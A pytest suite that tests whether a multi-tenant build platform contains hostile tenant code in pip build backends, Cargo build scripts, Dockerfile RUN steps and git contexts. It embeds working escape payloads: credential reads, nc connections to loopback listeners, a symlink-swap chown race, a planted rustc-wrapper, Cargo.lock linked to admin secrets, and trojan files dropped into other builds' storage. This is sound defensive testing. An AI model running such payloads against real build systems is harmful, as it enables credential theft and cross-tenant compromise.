"""Build-time code of one organization against the platform and another
organization, on one platform, through the API as tenants drive it.

Code runs at build time wherever a toolchain runs the user's code: a pip
source distribution's build backend (the operator allows sdists here), a
Cargo build script, a Dockerfile ``RUN`` step, and git itself for a
repository build context. (Go and Deno builds run none of the app's code:
``go mod tidy``/``go build`` execute no package code, and ``deno install``
runs no npm lifecycle scripts; their caches are still the organization's
own, which ``test_caches_are_the_organizations_own`` checks.)

Every test proves on the host side that nothing leaked or changed: no host
file's content in any build log or artifact, no host path outside the
builds' own folders changed owner, mode or content, the other
organization's next build and running app unchanged, and no connection from
a build to a loopback port other than its egress proxy (a listener the test
runs on loopback counts every connection it gets).
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import shutil
import socket
import stat
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import grpc
import pytest
from dodil.ignite.v1 import ignite_common_pb2 as common
from dodil.ignite.v1 import ignite_compute_pb2 as compute

from ignite_launcher import LocalPlatform, private_state_dir
from ignite_server.containment import identities
from tests.containment.package_index import PackageIndex, sdist, wheel
from tests.support import free_port, invoke, serve_git, stub_for, tar_gz, unique_name

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="builds switch uids only as root")

#: How long the attacker races renames against the other organization's builds.
RACE_SECS = 60
#: What a build's code reports back: one JSON line after this marker.
MARK = "EVIL-REPORT"

# --- the attacks ----------------------------------------------------------------


ATTACK_PY = """
import json, os, socket, sys, time, ctypes

CREDS, CANARY, SINK, HOST_ADDR, RACE, PORTS = @args@
R = {}

def attempt(name, fn):
    try:
        R[name] = "ok " + repr(fn())[:300]
    except BaseException as exc:
        R[name] = "refused " + type(exc).__name__

def connect(host, port):
    with socket.create_connection((host, port), timeout=3) as s:
        s.sendall(b"x")
        return "connected"

def through_proxy(host, port):
    with socket.create_connection(("127.0.0.1", 3128), timeout=3) as s:
        s.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode())
        return s.recv(200).decode(errors="replace").splitlines()[0]

def race(seconds):
    # Swap a folder and a link to a root-only host folder as fast as the
    # kernel allows: a server walking and chowning this tree as root would
    # chown the host folder in the window between its check and its chown.
    libc = ctypes.CDLL(None, use_errno=True)
    base = "/build/cache/race"
    os.makedirs(f"{base}/dir/sub", exist_ok=True)
    if not os.path.islink(f"{base}/link"):
        os.symlink(CANARY, f"{base}/link")
    swaps, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        libc.syscall(316, -100, f"{base}/dir".encode(), -100, f"{base}/link".encode(), 2)
        swaps += 1
    return swaps

attempt("uid", os.getuid)
attempt("read credentials", lambda: open(CREDS).read())
attempt("read canary", lambda: open(CANARY + "/secret").read())
attempt("list /build/cache", lambda: sorted(os.listdir("/build/cache")))
attempt("sink on loopback", lambda: connect("127.0.0.1", SINK))
attempt("sink on the host's address", lambda: connect(HOST_ADDR, SINK))
attempt("sink through the proxy", lambda: through_proxy("127.0.0.1", SINK))
for name, port in PORTS.items():
    attempt(name, lambda port=port: connect("127.0.0.1", port))
attempt("link out of the output", lambda: os.symlink(CREDS, "/build/out/leak"))
def setuid():
    open("/build/out/suid", "w").close()
    os.chmod("/build/out/suid", 0o4755)

attempt("setuid file", setuid)
attempt("device node", lambda: os.mknod("/build/out/dev", 0o600 | 0o20000, os.makedev(1, 3)))
if RACE:
    attempt("race", lambda: race(RACE))
print("@mark@ " + json.dumps(R), file=sys.stderr, flush=True)
"""

#: A source distribution's build backend that runs the attack, then fails
#: the build (so pip shows what it printed).
BACKEND_PY = (
    ATTACK_PY
    + """
def get_requires_for_build_wheel(config_settings=None):
    raise SystemExit("the attack is over")

build_wheel = get_requires_for_build_wheel
"""
)

#: A Cargo build script: the same attack in Rust, a rustc-wrapper planted
#: in the organization's Cargo home, the package's Cargo.lock replaced by a
#: link to the admin's credentials, and an optional sleep.
BUILD_RS = """
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

fn report(name: &str, result: String) {
    println!("cargo:warning=@mark@ {} => {}", name, result);
}

fn connect(address: &str) -> String {
    match address.parse() {
        Ok(a) => match TcpStream::connect_timeout(&a, Duration::from_secs(3)) {
            Ok(mut s) => { let _ = s.write_all(b"x"); "ok connected".to_string() }
            Err(e) => format!("refused {}", e.kind()),
        },
        Err(_) => "refused parse".to_string(),
    }
}

fn main() {
    report("uid", format!("ok {}", std::fs::metadata("/proc/self").map(|m| {
        use std::os::unix::fs::MetadataExt; m.uid() }).unwrap_or(0)));
    let mut text = String::new();
    report("read credentials", match std::fs::File::open("@creds@") {
        Ok(mut f) => { let _ = f.read_to_string(&mut text); format!("ok {}", text) }
        Err(e) => format!("refused {}", e.kind()),
    });
    report("sink on loopback", connect("127.0.0.1:@sink@"));
    report("sink on the host's address", connect("@host@:@sink@"));
    if let Ok(home) = std::env::var("CARGO_HOME") {
        // A wrapper every later build of this Cargo home runs rustc through.
        let wrapper = "/build/cache/rust/evil-wrapper";
        let _ = std::fs::write(wrapper, "#!/bin/sh\\necho evil-wrapper ran >&2\\nexec \\"$@\\"\\n");
        let _ = std::fs::set_permissions(wrapper,
            std::os::unix::fs::PermissionsExt::from_mode(0o755));
        let planted = std::fs::write(format!("{}/config.toml", home),
            format!("[build]\\nrustc-wrapper = \\"{}\\"\\n", wrapper));
        report("plant rustc-wrapper", format!("{:?}", planted.is_ok()));
    }
    let _ = std::fs::remove_file("Cargo.lock");
    report("link Cargo.lock", format!("{:?}",
        std::os::unix::fs::symlink("@creds@", "Cargo.lock").is_ok()));
    std::thread::sleep(Duration::from_secs(@sleep@));
}
"""

LIB_RS = """use ignite::prelude::*;
use serde_json::json;

#[ignite::main]
async fn handler(_req: Request, ctx: Context) -> Result<impl IntoResponse> {
    Ok(json!({"who": "@who@", "function_id": ctx.function_id()}))
}
"""

CARGO_TOML = """[package]
name = "app"
version = "0.1.0"
edition = "2021"
build = "build.rs"

[dependencies]
ignite = "*"
"""

#: A Dockerfile's RUN step against the platform: its capabilities, a second
#: chroot, the loopback listeners, the other processes' views, and a trojan
#: left where a shared storage would have been.
DOCKERFILE = """FROM scratch
COPY busybox /bin/busybox
RUN ["/bin/busybox", "--install", "-s", "/bin"]
RUN echo "@mark@ capabilities $(grep CapEff /proc/self/status)"; \\
    (mkdir -p /escape && chroot / /bin/true && echo "@mark@ chroot ok") \\
      || echo "@mark@ chroot refused"; \\
    (echo x | nc -w 3 127.0.0.1 @sink@ && echo "@mark@ sink ok") || echo "@mark@ sink refused"; \\
    (echo x | nc -w 3 127.0.0.1 @grpc@ && echo "@mark@ grpc ok") || echo "@mark@ grpc refused"; \\
    (echo x | nc -w 3 127.0.0.1 @registry@ && echo "@mark@ registry ok") \\
      || echo "@mark@ registry refused"; \\
    (cat @creds@ && echo "@mark@ credentials ok") || echo "@mark@ credentials refused"; \\
    echo "@mark@ storages $(ls -d /proc/*/root/build/work/storage 2>/dev/null | wc -l)"; \\
    for root in /proc/*/root/build/work/storage; do \\
      touch $root/trojan-@who@ 2>/dev/null; done; \\
    echo @who@ > /made-by
EXPOSE 8080
CMD ["/bin/busybox", "httpd", "-f", "-p", "8080", "-h", "/"]
"""

PYTHON_HANDLER = b"""import os, json
def handler(payload, ctx):
    import goodpkg
    return {"who": goodpkg.WHO, "uid": os.getuid()}
"""


# --- the bed --------------------------------------------------------------------


class Sink:
    """A loopback listener no build may reach; it counts what reaches it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.sock.close()


@dataclass
class Bed:
    platform: LocalPlatform
    stub: Any
    attacker: str
    victim: str
    sink: Sink
    canary: Path
    credentials: Path
    host_address: str
    git_url: str
    busybox: bytes
    index: PackageIndex
    #: Every build log the tests saw, to look for leaks at the end.
    logs: list[str] = field(default_factory=list)

    @property
    def secrets(self) -> list[str]:
        """Host contents no build may show."""
        return [
            json.loads(self.credentials.read_text())["client_secret"],
            (self.canary / "secret").read_text(),
        ]

    def compile(self, org: str, app: str, runtime: str, archive: bytes) -> Any:
        """Create (once), save and compile; the draft, its log kept."""
        with _quiet(grpc.StatusCode.ALREADY_EXISTS):
            self.stub.CreateApp(
                compute.CreateAppRequest(organization_name=org, name=app, runtime={runtime: {}})
            )
        self.stub.SaveDraft(
            compute.SaveDraftRequest(
                organization_name=org,
                app_name=app,
                code=compute.CodeSource(
                    compile=compute.CompileSource(runtime={runtime: {}}, archive=archive)
                ),
            )
        )
        done = self.stub.CompileDraft(
            compute.CompileDraftRequest(organization_name=org, app_name=app), timeout=900
        )
        self.logs.append(done.build_log)
        return done

    def image(self, org: str, app: str, **source: Any) -> Any:
        """Create (once), save an image app's draft and compile it."""
        with _quiet(grpc.StatusCode.ALREADY_EXISTS):
            self.stub.CreateApp(compute.CreateAppRequest(organization_name=org, name=app))
        self.stub.SaveDraft(
            compute.SaveDraftRequest(
                organization_name=org, app_name=app, code=compute.CodeSource(image=source)
            )
        )
        done = self.stub.CompileDraft(
            compute.CompileDraftRequest(organization_name=org, app_name=app), timeout=900
        )
        self.logs.append(done.build_log)
        return done

    def publish(self, org: str, app: str) -> Any:
        return self.stub.PublishDraft(
            compute.PublishDraftRequest(organization_name=org, app_name=app), timeout=900
        )


class _quiet:
    """Ignore one gRPC status (an app created by an earlier test)."""

    def __init__(self, code: grpc.StatusCode) -> None:
        self.code = code

    def __enter__(self) -> None:
        return None

    def __exit__(self, kind: Any, err: Any, tb: Any) -> bool:
        return isinstance(err, grpc.RpcError) and err.code() == self.code  # type: ignore[attr-defined]


def _reports(log: str) -> dict[str, str]:
    """What a build's code reported (a JSON line, or one line per probe)."""
    found: dict[str, str] = {}
    for line in log.splitlines():
        if MARK not in line or line.startswith("STEP "):
            # buildah echoes each step's command, markers included.
            continue
        text = line.split(MARK, 1)[1].strip()
        if text.startswith("{"):
            found.update(json.loads(text))
        elif " => " in text:
            name, _, result = text.partition(" => ")
            found[name.strip()] = result.strip()
        else:
            name, _, result = text.rpartition(" ")
            found[name.strip()] = result
    return found


def _snapshot(*roots: Path, skip: tuple[Path, ...] = ()) -> dict[str, tuple[int, int, int, str]]:
    """Owner, group, mode and (for files) content hash of everything under
    ``roots``, not entering ``skip`` (the builds' own volumes)."""
    seen: dict[str, tuple[int, int, int, str]] = {}
    for root in roots:
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if Path(folder, d) not in skip]
            for name in (".", *dirs, *files):
                path = Path(folder, name)
                info = path.lstat()
                digest = ""
                if stat.S_ISREG(info.st_mode) and info.st_size < 1 << 20:
                    digest = hashlib.sha256(path.read_bytes()).hexdigest()
                seen[str(path)] = (info.st_uid, info.st_gid, info.st_mode, digest)
    return seen


@pytest.fixture(scope="module")
def bed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bed]:
    root = tmp_path_factory.mktemp("escapes")
    # A root-only folder on the host, with a secret in it.
    canary = Path(f"/tmp/ignite-canary-{secrets.token_hex(6)}")
    canary.mkdir(mode=0o700)
    (canary / "secret").write_text(f"canary-secret-{secrets.token_hex(16)}")
    (canary / "secret").chmod(0o600)
    sink = Sink()
    index = PackageIndex(root / "index")
    index.add("goodpkg", *wheel("goodpkg", "1.0", {"goodpkg/__init__.py": "WHO = 'victim'\n"}))
    git_port, index_port = free_port(), free_port()
    busybox = Path(shutil.which("busybox") or "/bin/busybox")
    state = private_state_dir("ignite-escapes-")
    _git_repository(root / "git", busybox)
    with index.serve(index_port) as index_url, serve_git(root / "git", git_port) as git_base:
        platform = LocalPlatform(
            state,
            server_args=(
                "--pip-index-url", index_url,
                "--pip-allow-sdists",
                "--build-egress-allow", f"default,127.0.0.1:{git_port}",
            ),
        )  # fmt: skip
        with platform:
            made = Bed(
                platform=platform,
                stub=stub_for(platform.grpc_target),
                attacker=unique_name("attacker"),
                victim=unique_name("victim"),
                sink=sink,
                canary=canary,
                credentials=state / "admin-credentials.json",
                host_address=_host_address(),
                git_url=f"{git_base}/repo.git",
                busybox=busybox.read_bytes(),
                index=index,
            )
            yield made
    sink.close()
    subprocess.run(["rm", "-rf", str(canary)], check=False)


def _host_address() -> str:
    """An address of this machine other than loopback (where services that
    listen on every address answer too)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # no packet is sent: picks a route
            return str(probe.getsockname()[0])
        except OSError:
            return "127.0.0.1"


def _git_repository(base: Path, busybox: Path) -> None:
    """A repository whose build context ``ctx`` is a link to a host folder."""
    bare = base / "repo.git"
    work = base / "work"
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(bare)], check=True)
    work.mkdir(parents=True)
    (work / "ctx").symlink_to("/etc")
    subprocess.run([*git, "init", "-q", "-b", "main"], cwd=work, check=True)
    subprocess.run([*git, "add", "."], cwd=work, check=True)
    subprocess.run([*git, "commit", "-q", "-m", "context"], cwd=work, check=True)
    subprocess.run([*git, "push", "-q", str(bare), "main"], cwd=work, check=True)


def _attack(bed: Bed, *, race: int = 0) -> str:
    arguments = (
        str(bed.credentials),
        str(bed.canary),
        bed.sink.port,
        bed.host_address,
        race,
        {
            "grpc": int(bed.platform.grpc_target.rsplit(":", 1)[1]),
            "gateway": bed.platform.gateway_port,
            "server metrics": bed.platform.server_metrics_port,
            "gateway metrics": bed.platform.gateway_metrics_port,
            "registry": int(bed.platform.registry.rsplit(":", 1)[1] or 0),
        },
    )
    return BACKEND_PY.replace("@args@", repr(arguments)).replace("@mark@", MARK)


def _victim_python(bed: Bed, app: str) -> None:
    """The victim's Python app, with its dependency from the index,
    published and answering."""
    archive = tar_gz({"handler.py": PYTHON_HANDLER, "requirements.txt": b"goodpkg==1.0\n"})
    draft = bed.compile(bed.victim, app, "python", archive)
    assert draft.draft.status == common.VERSION_STATUS_DRAFT, draft.build_log
    bed.publish(bed.victim, app)


def _assert_refused(reports: dict[str, str], *names: str) -> None:
    for name in names:
        assert reports.get(name, "").startswith("refused"), (name, reports)


# --- the tests ------------------------------------------------------------------


def test_a_pip_build_backend_reaches_nothing_of_the_host(bed: Bed) -> None:
    """Failures 3 (no tree is walked or chowned as root: the race), 6 (pip
    reads the platform's requirements), 7 (no host network), 9 (no server
    path in the log), 4 (the cache is the organization's)."""
    name = f"evil{secrets.token_hex(3)}"
    bed.index.add(name, *sdist(name, "1.0", _attack(bed, race=RACE_SECS)))
    state = bed.platform.state_dir
    volumes = state / "build-volumes"
    before = _snapshot(state, bed.canary, skip=(volumes, state / "postgres", state / "logs"))

    # The victim builds and publishes, again and again, while the attacker races.
    _victim_python(bed, "steady")
    attack = threading.Thread(
        target=lambda: bed.compile(
            bed.attacker, "racer", "python",
            tar_gz({"handler.py": b"def handler(p, c):\n    return 1\n",
                    "requirements.txt": f"{name}==1.0\n".encode()}),
        ),
    )  # fmt: skip
    attack.start()
    victim_builds = 0
    deadline = time.monotonic() + RACE_SECS + 120
    while attack.is_alive():
        assert time.monotonic() < deadline, "the attacker's build never ended"
        archive = tar_gz(
            {
                "handler.py": PYTHON_HANDLER + f"# build {victim_builds}\n".encode(),
                "requirements.txt": b"goodpkg==1.0\n",
            }
        )
        done = bed.compile(bed.victim, "steady", "python", archive)
        assert done.draft.status == common.VERSION_STATUS_DRAFT, done.build_log
        victim_builds += 1
    attack.join()
    log = next(text for text in reversed(bed.logs) if MARK in text)
    reports = _reports(log)
    print(f"\nattacker reports: {json.dumps(reports, indent=1)}\nvictim builds meanwhile: "
          f"{victim_builds}")  # fmt: skip

    # The backend ran, as an unprivileged uid of the build's own ...
    uid = int(reports["uid"].split()[1])
    block = identities.block_of(state)
    assert block is not None and block.owns(uid)
    assert uid != 0 and uid not in block.pods
    # ... raced for the whole minute ...
    assert int(reports["race"].split()[1]) > 1000
    # ... and reached nothing of the host.
    _assert_refused(
        reports,
        "read credentials", "read canary", "sink on loopback", "sink on the host's address",
        "grpc", "gateway", "server metrics", "gateway metrics", "registry", "setuid file",
        "device node",
    )  # fmt: skip
    assert reports["sink through the proxy"] == "ok 'HTTP/1.1 403 Forbidden'"
    assert reports["list /build/cache"] != "refused"
    assert bed.victim not in reports["list /build/cache"]
    assert bed.sink.connections == 0
    after = _snapshot(state, bed.canary, skip=(volumes, state / "postgres", state / "logs"))
    changed = {path for path in before.keys() & after.keys() if before[path] != after[path]}
    # The server's own bookkeeping may change; nothing changed owner or mode.
    assert not {path for path in changed if before[path][:3] != after[path][:3]}, changed
    assert after[str(bed.canary)] == before[str(bed.canary)]
    # The victim's app still answers as before.
    status, body = invoke(bed.stub, bed.victim, "steady", b"{}")
    assert status == 200 and json.loads(body)["who"] == "victim"
    _assert_no_leak(bed)


def test_what_leaves_a_build_is_checked(bed: Bed) -> None:
    """A link out of the build's output fails the build instead of reaching
    the server's files (failure 1's shape for every runtime)."""
    name = f"linker{secrets.token_hex(3)}"
    backend = (
        "import os\n"
        "def get_requires_for_build_wheel(config_settings=None):\n"
        f"    os.symlink({str(bed.credentials)!r}, '/build/out/leak')\n"
        "    raise SystemExit('planted')\n"
    )
    bed.index.add(name, *sdist(name, "1.0", backend))
    # The planted link is in /build/out when pip fails: the artifact never
    # forms, and the server never reads through the link.
    done = bed.compile(
        bed.attacker, "linker", "python",
        tar_gz({"handler.py": b"def handler(p, c):\n    return 1\n",
                "requirements.txt": f"{name}==1.0\n".encode()}),
    )  # fmt: skip
    assert done.draft.status == common.VERSION_STATUS_FAILED
    _assert_no_leak(bed)


@pytest.mark.timeout(1500)
def test_cargo_build_scripts_stay_in_their_organization(bed: Bed) -> None:
    """Failures 1 (Cargo.lock as a link to the admin's secret), 4 (a
    rustc-wrapper planted in the Cargo home), 7 and 8 (two organizations
    build at once, neither waiting for the other)."""
    creds = str(bed.credentials)

    def package(who: str, sleep: int, attack: bool) -> bytes:
        build_rs = (
            BUILD_RS.replace("@creds@", creds)
            .replace("@sink@", str(bed.sink.port))
            .replace("@host@", bed.host_address)
            .replace("@sleep@", str(sleep))
            .replace("@mark@", MARK)
            if attack
            else "fn main() {}\n"
        )
        return tar_gz(
            {
                "Cargo.toml": CARGO_TOML.encode(),
                "build.rs": build_rs.encode(),
                "src/lib.rs": LIB_RS.replace("@who@", who).encode(),
            }
        )

    # Both organizations' first builds (empty caches).
    victim = bed.compile(bed.victim, "crab", "rust", package("victim", 0, False))
    assert victim.draft.status == common.VERSION_STATUS_DRAFT, victim.build_log
    bed.publish(bed.victim, "crab")
    first = bed.compile(bed.attacker, "crab", "rust", package("attacker", 0, True))
    reports = _reports(first.build_log)
    print(f"\nbuild script reports: {json.dumps(reports, indent=1)}")
    _assert_refused(reports, "read credentials", "sink on loopback", "sink on the host's address")
    assert reports["plant rustc-wrapper"] == "true"
    # The link it left in place of Cargo.lock leads nowhere in its jail:
    # whether its build passes or not, no secret is in a log or a cache.
    assert reports["link Cargo.lock"] == "true"

    # Now both at once: the attacker's script sleeps 20 s; the victim's
    # rebuild does not wait for it, and compiles with its own toolchain.
    timings: dict[str, tuple[float, float]] = {}

    def timed(who: str, org: str, archive: bytes) -> None:
        started = time.monotonic()
        bed.compile(org, "crab", "rust", archive)
        timings[who] = (started, time.monotonic())

    threads = [
        threading.Thread(
            target=timed, args=("attacker", bed.attacker, package("attacker", 20, True))
        ),
        threading.Thread(target=timed, args=("victim", bed.victim, package("victim2", 0, False))),
    ]
    threads[0].start()
    time.sleep(2)
    threads[1].start()
    for thread in threads:
        thread.join(900)
    origin = min(start for start, _ in timings.values())
    spans = [f"{who} {s - origin:.1f} to {e - origin:.1f}" for who, (s, e) in timings.items()]
    print("\nconcurrent builds (s from the first start): " + ", ".join(spans))
    assert timings["victim"][1] < timings["attacker"][1], timings
    victim_rebuild = bed.logs[-1] if "victim2" in bed.logs[-1] else bed.logs[-2]
    assert "evil-wrapper" not in victim_rebuild
    bed.publish(bed.victim, "crab")
    status, body = invoke(bed.stub, bed.victim, "crab", b"{}")
    assert status == 200 and json.loads(body)["who"] == "victim2"
    assert bed.sink.connections == 0
    _assert_no_leak(bed)


def test_dockerfile_run_steps_cannot_leave_their_build(bed: Bed) -> None:
    """Failures 5 (no CAP_SYS_CHROOT, no shared storage to plant a trojan
    in) and 7 (no route to loopback or the registry)."""
    registry = bed.platform.registry
    assert registry, "this machine runs no embedded registry"

    def context(who: str) -> bytes:
        dockerfile = (
            DOCKERFILE.replace("@mark@", MARK)
            .replace("@who@", who)
            .replace("@sink@", str(bed.sink.port))
            .replace("@grpc@", bed.platform.grpc_target.rsplit(":", 1)[1])
            .replace("@registry@", registry.rsplit(":", 1)[1])
            .replace("@creds@", str(bed.credentials))
        )
        return tar_gz(
            {"Dockerfile": dockerfile.encode(), "busybox": bed.busybox},
            executable=frozenset({"busybox"}),
        )

    victim = bed.image(
        bed.victim, "box", from_code={"archive": context("victim"), "dockerfile_path": "Dockerfile"}
    )
    assert victim.draft.status == common.VERSION_STATUS_DRAFT, victim.build_log
    published = bed.publish(bed.victim, "box")
    digest_before = published.version.image_ref
    attack = bed.image(
        bed.attacker, "box",
        from_code={"archive": context("attacker"), "dockerfile_path": "Dockerfile"},
    )  # fmt: skip
    assert attack.draft.status == common.VERSION_STATUS_DRAFT, attack.build_log
    reports = _reports(attack.build_log)
    print(f"\nRUN step reports: {json.dumps(reports, indent=1)}")
    capabilities = int(reports["capabilities"].split()[-1], 16)
    assert not capabilities & (1 << 18), "RUN steps keep CAP_SYS_CHROOT"
    assert reports["chroot"] == "refused"
    for probe in ("sink", "grpc", "registry", "credentials"):
        assert reports[probe] == "refused", probe
    # No other build's buildah storage is in its view (at most its own).
    assert int(reports["storages"]) <= 1
    # The victim's next build and published app are its own.
    again = bed.image(
        bed.victim, "box", from_code={"archive": context("victim"), "dockerfile_path": "Dockerfile"}
    )
    assert again.draft.status == common.VERSION_STATUS_DRAFT
    assert "trojan-attacker" not in again.build_log
    app = bed.stub.GetApp(compute.GetAppRequest(organization_name=bed.victim, app_name="box"))
    assert app.app.image_ref == digest_before or digest_before in app.app.image_ref
    assert bed.sink.connections == 0
    _assert_no_leak(bed)


def test_a_git_context_linked_to_a_host_folder_reads_nothing_of_the_host(bed: Bed) -> None:
    """Failure 2: ``ctx`` → /etc in the repository; the context is resolved
    inside the build's jail, and the server chowns nothing."""
    etc = Path("/etc")
    before = (etc.stat().st_uid, etc.stat().st_mode, (etc / "shadow").stat().st_uid)
    done = bed.image(
        bed.attacker, "linked",
        from_git={"repo_url": bed.git_url, "ref": "main", "context_dir": "ctx"},
    )  # fmt: skip
    assert done.draft.status == common.VERSION_STATUS_FAILED
    assert done.draft.error == "no ctx/Dockerfile in the build context"
    assert (etc.stat().st_uid, etc.stat().st_mode, (etc / "shadow").stat().st_uid) == before
    _assert_no_leak(bed)


def test_caches_are_the_organizations_own(bed: Bed) -> None:
    """Failure 4 for every runtime: each organization's caches are on a
    volume of its own, which no other organization's build mounts."""
    volumes = bed.platform.state_dir / "build-volumes"
    made = {volume.name for volume in volumes.iterdir() if volume.is_dir()}
    assert {bed.attacker, bed.victim} <= made
    # The attacker's planted files are on its volume only.
    victim_cache = volumes / bed.victim / "cache"
    planted = subprocess.run(
        ["grep", "-rl", "evil-wrapper", str(victim_cache)], capture_output=True, text=True
    )
    assert planted.stdout == ""
    assert not (victim_cache / "race").exists()


def test_build_logs_hold_no_server_path(bed: Bed) -> None:
    """Failure 9: builds see /build/… paths, shown relative to the app."""
    assert bed.logs
    state = bed.platform.state_dir
    # Where the server keeps builds' folders, caches and sources (the
    # attacks themselves name the credentials' path, which the tenants'
    # code prints back in its own errors).
    machinery = [str(state / name) for name in ("build-volumes", "blobs", "cache", "pods")]
    for text in bed.logs:
        for folder in machinery:
            assert folder not in text


def _assert_no_leak(bed: Bed) -> None:
    for secret in bed.secrets:
        for text in bed.logs:
            assert secret not in text
